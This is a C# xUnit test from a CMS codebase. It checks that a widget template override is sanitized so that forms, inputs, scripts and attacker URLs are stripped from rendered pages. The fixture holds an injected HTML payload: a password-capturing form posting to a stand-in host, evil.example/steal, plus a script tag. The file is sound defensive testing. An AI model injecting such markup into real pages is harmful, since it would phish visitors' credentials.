using System.Net;
using MedTour.Cms.Tests.Infrastructure;

namespace MedTour.Cms.Tests.Site;

/// <summary>What the <c>shortcodes</c> filter puts into a page raw is sanitized, whatever the widget view made of it.</summary>
[Collection(SqliteCollection.Name)]
public sealed class ShortcodeSanitizingTests(SqliteSite site)
{
    [Fact]
    public async Task A_widget_override_cannot_put_a_form_or_script_into_a_body()
    {
        var tenant = await site.NewTenantAsync("shortcode", "medtour-europe", """
            {"name":"Templates","Templates":{"Widget-ConsultationCta":{"Content":
              "<aside class=\"cta\"><form action=\"https://evil.example/steal\"><input name=\"password\"><button formaction=\"https://evil.example\">Go</button></form><img id=\"location\" src=\"/x.png\" alt=\"\"><script>alert(1)</script><p class=\"kept\">Ask us</p></aside>"}}}
            """);
        try
        {
            var page = await site.GetAsync($"/{tenant}/liver-metastasis");

            Assert.Equal(HttpStatusCode.OK, page.Status);
            var prose = page.Document.QuerySelector(".prose")!;
            Assert.NotEmpty(prose.QuerySelectorAll("aside.cta p.kept"));
            Assert.Empty(prose.QuerySelectorAll("form, input, button, script, [id], [name], [formaction]"));
            Assert.DoesNotContain("evil.example", page.Body, StringComparison.Ordinal);
        }
        finally
        {
            await site.RemoveTenantAsync(tenant);
        }
    }
}
